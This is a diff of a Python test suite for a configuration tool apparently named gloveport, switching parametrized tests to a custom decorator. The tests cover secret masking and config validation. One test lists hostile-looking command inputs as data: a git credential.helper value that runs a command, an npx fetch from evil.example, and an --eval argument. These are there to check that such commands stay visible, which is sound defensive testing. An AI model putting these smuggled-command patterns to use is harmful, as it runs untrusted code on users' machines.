@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from tests.cases import for_each
 
 from gloveport.config import load
 from gloveport.errors import ConfigError
@@ -223,8 +224,8 @@ def test_every_spelling_is_understood(tmp_path, wrapper, key, kind):
     assert step.draft.table.get("transport") == expected
 
 
-@pytest.mark.parametrize(
-    ("command", "args"),
+@for_each(
+    "command, args",
     [
         *(("gloveport", ["serve"]), ("/opt/bin/gloveport", None), ("uvx", ["gloveport", "serve"])),
         *(("uvx", ["--from", "x", "gloveport@1.0"]), ("python3.12", ["-m", "gloveport.cli.main"])),
@@ -248,8 +249,8 @@ def test_what_is_called_gloveport_is_gloveport():
     assert refusal({"url": "http://127.0.0.1:8700/mcp"}, name="Gloveport") == "it is Gloveport itself"
 
 
-@pytest.mark.parametrize(
-    ("entry", "reason"),
+@for_each(
+    "entry, reason",
     [
         *((3, "it is no table"), ({}, "neither a command nor an address"), (None, "it is no table")),
         *(({"command": ["x"], "args": "y"}, "args are no list"), ({"command": {"args": []}}, "no text")),
@@ -299,8 +300,8 @@ def test_one_bad_entry_sinks_no_other(tmp_path):
     }
 
 
-@pytest.mark.parametrize(
-    ("name", "ours"),
+@for_each(
+    "name, ours",
     [("brave search", "brave-search"), ("a/b:c", "a-b-c"), ("_x_", "x_"), ("@org/x", "org-x"), ("x" * 99, "x" * 64)],
 )
 def test_names_that_cannot_be_names_here_are_made_so_and_that_is_said(name, ours):
@@ -418,8 +419,8 @@ def test_a_variable_of_the_environment_that_is_too_short_for_a_secret_is_pointed
     )
 
 
-@pytest.mark.parametrize(
-    ("name", "value"),
+@for_each(
+    "name, value",
     [
         *(("LOG_LEVEL", "debug"), ("NODE_ENV", "production"), ("AWS_REGION", "us-east-1"), ("PORT", "8080")),
         *(("ROOT", "/home/ada/My Documents/notes.md"), ("URL", "https://api.example.com/v2/things"), ("X", "")),
@@ -431,8 +432,8 @@ def test_what_is_certainly_harmless_is_no_secret(name, value):
     assert is_harmless(name, value)
 
 
-@pytest.mark.parametrize(
-    ("name", "value"),
+@for_each(
+    "name, value",
     [
         *(("GITHUB_TOKEN", "x"), ("apiKey", "short"), ("DB_PASSWORD", "postgres"), ("X-Api-Key", "12345678")),
         *(("PGPASS", "hunter2"), ("AUTHORIZATION", "me"), ("OPENAI_APIKEY", "me"), ("KEY_FILE", "abcdefg8h9")),
@@ -480,7 +481,7 @@ def test_arguments_that_may_be_secrets_are_known_by_their_names(before, argument
 EVIL = "Qx7k3JevilPkg9Z8w2"
 
 
-@pytest.mark.parametrize(
+@for_each(
     "command",
     [
         *(["npx", "-y", EVIL], ["npx", "-y", "--api-key", EVIL], ["npx", "--api-key", EVIL, "good"]),
@@ -496,15 +497,14 @@ EVIL = "Qx7k3JevilPkg9Z8w2"
         *(["git", "-c", f"credential.helper=!{EVIL}"], ["uvx", f"evil_key=={EVIL}"], ["x", f"--eval=run('{EVIL}')"]),
         *(["npx", f"https://a@evil.example/{EVIL}"], [EVIL, "x"], ["server", EVIL]),
     ],
-    ids=" ".join,
 )
 def test_what_a_command_runs_is_never_hidden(command):
     """H1, T3: a hostile file makes its package look like a secret."""
     assert reviewed_command(command) == command
 
 
-@pytest.mark.parametrize(
-    ("command", "shown"),
+@for_each(
+    "command, shown",
     [
         ("server --api-key hunter2 --verbose", "server --api-key ••• --verbose"),
         ("server --token=hunter2 --auth=none", "server --token=••• --auth=none"),
@@ -534,7 +534,7 @@ def test_a_header_in_a_command_is_hidden():
     assert reviewed_command(words)[-1] == "Authorization: •••"
 
 
-@pytest.mark.parametrize(
+@for_each(
     "name",
     [
         *(
@@ -586,7 +586,7 @@ def test_a_variable_that_loads_code_brings_no_secret_into_the_open():
     assert set(own["secret_env"]) == {"PYTHONANYWHERE_TOKEN", "GIT_PASSWORD"}
 
 
-@pytest.mark.parametrize("argument", ["-y", "--rm", "@org/server-github@1.2.3", "/srv/data", "--port=80", "stdio"])
+@for_each("argument", ["-y", "--rm", "@org/server-github@1.2.3", "/srv/data", "--port=80", "stdio"])
 def test_ordinary_arguments_are_harmless(argument):
     assert is_harmless_argument("npx", argument)
 
